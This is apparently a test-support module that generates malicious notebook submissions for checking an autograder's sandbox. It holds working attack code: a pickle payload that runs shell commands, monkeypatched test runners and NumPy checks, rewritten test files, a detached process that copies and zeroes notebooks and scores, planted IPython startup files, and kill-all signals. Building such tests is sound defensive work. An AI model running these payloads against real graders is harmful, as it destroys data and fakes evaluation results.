"""Submissions that try to fool the grader, one per attack, for tests/test_grading_attacks.py.

Each attack is a function ``(solution, student, ctx) -> notebook``: it starts from a1's generated
student notebook (no answers) or its solution, as its docstring says, and plants the attack in
the answer cell of q1 (or wherever the attack lives). ``ctx`` holds host paths a real attacker
would have to guess (the marker file whose existence proves that code ran in the grader, the
submissions folder, a port the grader's machine listens on): giving them away makes each attack
as strong as it can be. The module has no test of its own; it also runs against older graders to
measure what each attack got before (``python tests/grading_attacks.py`` prints how).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path


@dataclass
class Context:
    marker: Path  # exists only if attack code ran outside the sandbox
    submissions: Path  # the class's folder
    port: int  # a TCP port on the grader's loopback


def read(path: Path) -> dict:
    return json.loads(Path(path).read_text(encoding="utf-8"))


def write(nb: dict, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb, indent=1), encoding="utf-8")
    return path


def cell_defining(nb: dict, name: str) -> dict:
    for cell in nb["cells"]:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and f"def {name}(" in source:
            return cell
    raise LookupError(f"no cell defines {name}")


def with_q1(student: dict, code: str) -> dict:
    """The student notebook with q1's answer cell replaced by ``code``."""
    nb = copy.deepcopy(student)
    cell_defining(nb, "rnn_forward")["source"] = code
    return nb


REFERENCE_ARGS = '{"W_xh": W_xh, "W_hh": W_hh, "b_h": b_h}, h0'


# ----------------------------------------------------------------------------- the attacks
def reference_by_getattr(solution, student, ctx):
    """q1 answered by the course's reference, reached through getattr and __import__."""
    return with_q1(student, f'''def rnn_forward(x, h0, W_xh, W_hh, b_h):
    ref = getattr(__import__("lstm_lab.scratch", fromlist=["rnn_forward"]), "rnn_" + "forward")
    return ref(x, {REFERENCE_ARGS})[0]
''')


def reference_by_importlib(solution, student, ctx):
    """q1 answered by the reference module imported with importlib under a built name."""
    return with_q1(student, f'''import importlib

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    module = importlib.import_module(".".join(["lstm_lab", "scratch", "rnn"]))
    return module.rnn_forward(x, {REFERENCE_ARGS})[0]
''')


def reference_as_default_argument(solution, student, ctx):
    """q1 answered by the reference bound as a default argument (no name in the body)."""
    return with_q1(student, f'''def rnn_forward(x, h0, W_xh, W_hh, b_h,
                _f=__import__("lstm_lab.scratch.rnn", fromlist=["x"]).rnn_forward):
    return _f(x, {REFERENCE_ARGS})[0]
''')


def patched_allclose(solution, student, ctx):
    """A wrong q1 (all zeros) with NumPy's comparisons patched to say yes."""
    return with_q1(student, '''import numpy as np

np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.all = lambda *args, **kwargs: True

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return np.zeros((x.shape[0], x.shape[1], h0.shape[1]))
''')


def patched_otter(solution, student, ctx):
    """No answers, and otter's test files patched to pass every test case."""
    return with_q1(student, '''import otter.test_files.exception_test as exception_test
from otter.test_files.abstract_test import TestCaseResult

def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True)
                              for tc in self.test_cases]

exception_test.ExceptionTestFile.run = run

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return None
''')


PASSING_TESTS = '''from otter.test_files import test_case

OK_FORMAT = False
name = "{q}"
points = 1000

@test_case(points=1000, hidden=False)
def test_always(env):
    pass
'''


def rewritten_tests(solution, student, ctx):
    """No answers; every test file it can find rewritten to pass, worth 1000 points."""
    return with_q1(student, f'''import glob, os

for path in set(glob.glob("tests/*.py") + glob.glob("/autograder/**/tests/*.py", recursive=True)
                + glob.glob("/tmp/**/tests/q*.py", recursive=True)
                + glob.glob({str(ctx.submissions.parent)!r} + "/**/tests/q*.py", recursive=True)):
    q = os.path.splitext(os.path.basename(path))[0]
    try:
        with open(path, "w") as f:
            f.write({PASSING_TESTS!r}.format(q=q))
    except OSError:
        pass

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return None
''')


def forged_results(solution, student, ctx):
    """No answers; a pickle that runs code when loaded, left where otter reads its results, sent to
    every pipe it holds (the grader's answer channel too) and to a port on the grader's loopback."""
    return with_q1(student, f'''import glob, os, pickle, socket

class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + {str(ctx.marker)!r},))

blob = pickle.dumps(Payload())
for name in ("results.pkl", ".OTTER_RESULTS.pkl", "/tmp/results.pkl"):
    try:
        open(name, "wb").write(blob)
    except OSError:
        pass
for fd in os.listdir("/proc/self/fd"):
    try:
        if int(fd) > 2 and os.readlink(f"/proc/self/fd/{{fd}}").startswith("pipe:"):
            os.write(int(fd), len(blob).to_bytes(8, "big") + blob)
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=2) as s:
        s.sendall(blob)
except OSError:
    pass

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return None
''')


def code_in_metadata(solution, student, ctx):
    """No answers; code in the notebook's and the cells' metadata, a raw cell and an output."""
    nb = with_q1(student, "def rnn_forward(x, h0, W_xh, W_hh, b_h):\n    return None\n")
    run = f"import os; os.system('touch {ctx.marker}')"
    passing = PASSING_TESTS.format(q="q1")
    nb["metadata"]["otter"] = {"assignment_name": "a1_rnn_bptt", "tests": {"q1": passing, "q2": passing},
                               "init_cell": run}
    cell = cell_defining(nb, "rnn_forward")
    cell["metadata"] = {"tags": ["otter_answer_cell"], "otter": {"code": run, "tests": passing},
                        "jupyter": {"source_hidden": True}}
    cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                        "data": {"text/plain": run, "application/x-python": run}}]
    nb["cells"].append({"cell_type": "raw", "metadata": {}, "source": run})
    return nb


def detached_process(solution, student, ctx):
    """No answers; a process that leaves the grader's reach and, a few seconds later, zeroes every
    scores file and notebook it can write and copies every notebook it can read."""
    return with_q1(student, f'''import subprocess

subprocess.Popen(["bash", "-c", """sleep 4
for f in $(find / {str(ctx.submissions)!r} -xdev \\( -name '*.ipynb' -o -name 'scores.csv' \\) 2>/dev/null); do
    cp "$f" /tmp/stolen_$(basename "$f") 2>/dev/null
    cp "$f" {str(ctx.marker.parent)!r}/stolen_$(basename "$f") 2>/dev/null
    echo zeroed > "$f" 2>/dev/null
done
sleep 600"""], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return None
''')


def ipython_startup(solution, student, ctx):
    """No answers; a startup file planted in every IPython profile it can reach, which would give
    every later notebook of the run the reference as its rnn_forward, after each of its cells."""
    return with_q1(student, '''import os

startup = (
    "import lstm_lab.scratch.rnn as _r\\n"
    "def _answer(x, h0, W_xh, W_hh, b_h):\\n"
    "    return _r.rnn_forward(x, {'W_xh': W_xh, 'W_hh': W_hh, 'b_h': b_h}, h0)[0]\\n"
    "_ip = get_ipython()\\n"
    "_ip.events.register('post_run_cell', lambda *a: _ip.user_ns.update(rnn_forward=_answer))\\n"
)
for home in {os.path.expanduser("~"), os.environ.get("HOME", "/tmp"), "/root", "/tmp"}:
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "00-answers.py"), "w") as f:
            f.write(startup)
    except OSError:
        pass

def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return None
''')


def kill_the_grader(solution, student, ctx):
    """No answers; kills its parent, its process group and every process it may signal."""
    return with_q1(student, '''import os, signal

for kill in (lambda: os.kill(os.getppid(), signal.SIGKILL),
             lambda: os.killpg(os.getpgid(0), signal.SIGKILL),
             lambda: os.kill(-1, signal.SIGKILL)):
    try:
        kill()
    except OSError:
        pass
''')


def huge_output(solution, student, ctx):
    """The full solution, and a cell that prints 200 MB."""
    nb = copy.deepcopy(solution)
    nb["cells"].insert(1, {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                           "source": 'import sys\nchunk = "x" * (1 << 20)\nfor _ in range(200):\n'
                                     '    sys.stdout.write(chunk)\n'})
    return nb


def honest_comment(solution, student, ctx):
    """The full solution, with a comment inside each function that mentions lstm_lab."""
    nb = copy.deepcopy(solution)
    for name in ("rnn_forward", "rnn_backward", "numerical_gradient"):
        cell = cell_defining(nb, name)
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        head, _, body = source.partition(f"def {name}(")
        signature, _, rest = body.partition(":\n")
        cell["source"] = (f"{head}def {name}({signature}:\n    # Written from scratch with NumPy: no lstm_lab, "
                          f"not lstm_lab.scratch.{name}.\n{rest}")
    return nb


def no_otter_metadata(solution, student, ctx):
    """The full solution with every metadata field removed, the notebook's and the cells'."""
    nb = copy.deepcopy(solution)
    nb["metadata"] = {}
    for cell in nb["cells"]:
        cell["metadata"] = {}
    return nb


ATTACKS = [reference_by_getattr, reference_by_importlib, reference_as_default_argument, patched_allclose,
           patched_otter, rewritten_tests, forged_results, code_in_metadata, detached_process, ipython_startup,
           kill_the_grader, huge_output, honest_comment, no_otter_metadata]
